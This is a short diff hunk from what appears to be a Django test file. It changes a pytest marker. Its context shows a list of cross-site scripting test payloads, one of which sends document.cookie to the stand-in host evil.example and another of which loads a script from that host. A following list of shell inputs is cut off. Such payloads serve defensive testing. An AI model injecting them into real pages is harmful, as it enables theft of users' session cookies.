@@ -7,7 +7,7 @@ from interactions.models import Interaction
 
 from .scene import Caller, forget_counts, line, start
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.once]
 
 CALLS = ["alert(1)", "fetch('//evil.example/'+document.cookie)", "import('//evil.example/x.js')"]
 SHELLS = [
